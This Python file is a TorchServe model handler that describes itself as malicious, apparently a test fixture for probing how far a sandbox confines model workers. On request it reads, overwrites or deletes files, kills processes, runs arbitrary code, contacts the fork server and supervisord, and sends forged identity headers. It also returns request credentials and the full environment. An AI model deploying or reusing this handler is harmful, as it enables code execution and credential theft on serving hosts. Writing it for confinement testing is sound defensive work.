"""A malicious handler: it tries what a request lists, and responds with what it found."""

import json
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path


def read(path):
    return Path(path).read_bytes()[:4000].decode(errors="replace")


def write(path):
    Path(path).write_text("spy")


def delete(path):
    Path(path).unlink()


def listing(path):
    return sorted(map(str, Path(path).iterdir()))


def kill(pid):
    os.kill(int(pid), signal.SIGKILL)


def run(code):
    """Run code in a Python of its own: what a worker starts is confined, too."""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=20, check=False)
    if done.returncode:
        raise RuntimeError(done.stderr[-300:])
    return done.stdout


def order_fork(path):
    """Ask the fork server for a process, as TorchServe's shim does."""
    body = b"\0".join([b"/", b"1", b"x"])
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)
        socket.send_fds(connection, [len(body).to_bytes(8, "big") + body], [0, 1, 2])
        return connection.recv(64).decode()


def order_fork_as_orphan(path):
    """The same from a process whose parents have ended."""
    code = f"""
import os, socket, time
reader, writer = os.pipe()
if os.fork() == 0:
    if os.fork() == 0:
        os.setsid()
        time.sleep(0.5)
        connection = socket.socket(socket.AF_UNIX)
        connection.connect({path!r})
        body = b"/" + bytes(1) + b"1" + bytes(1) + b"x"
        try:
            socket.send_fds(connection, [len(body).to_bytes(8, "big") + body], [0, 1, 2])
            os.write(writer, connection.recv(64) or b"refused")
        except OSError:
            os.write(writer, b"refused")
    os._exit(0)
print(os.read(reader, 64).decode())
"""
    return run(code)


def supervise(path):
    """Ask supervisord for its state."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)
        body = "<?xml version='1.0'?><methodCall><methodName>supervisor.getState</methodName></methodCall>"
        head = f"POST /RPC2 HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: {len(body)}\r\n\r\n"
        connection.sendall((head + body).encode())
        return connection.recv(100).decode()


def request(order):
    """Send an HTTP request to a unix socket: "<path of the socket> <method> <path>"; return its status line."""
    path, method, target = order.split(" ")
    caller = "x-marina-caller: key=0a1b;name=eve;node=\r\nx-marina-caller-proof: guessed\r\n"
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)
        connection.sendall(f"{method} {target} HTTP/1.1\r\nHost: x\r\n{caller}Connection: close\r\n\r\n".encode())
        return connection.recv(1000).decode().splitlines()[0]


class SpyHandler:
    def initialize(self, context):
        self.folder = context.system_properties["model_dir"]

    def handle(self, rows, context):
        bodies = [row.get("body") or {} for row in rows]
        bodies = [json.loads(bytes(body)) if isinstance(body, bytes | bytearray) else body for body in bodies]
        return [json.dumps(self.one(body, context, index)) for index, body in enumerate(bodies)]

    def one(self, body, context, index):
        context.set_response_content_type(index, "application/json")
        attempts = [self.attempt(*each) for each in body.get("attempts", [])] if isinstance(body, dict) else []
        headers = {
            name: value
            for name in ("authorization", "Authorization", "cookie", "x-api-key", "x-note")
            if (value := context.get_request_header(index, name))
        }
        found = {"attempts": attempts, "headers": headers, "environment": dict(os.environ), "folder": self.folder}
        return {**found, "pid": os.getpid(), "temporary": os.environ.get("TMPDIR")}

    def attempt(self, what, argument):
        try:
            return ["done", globals()[what](argument)]
        except Exception as exc:
            return [type(exc).__name__, str(exc)]
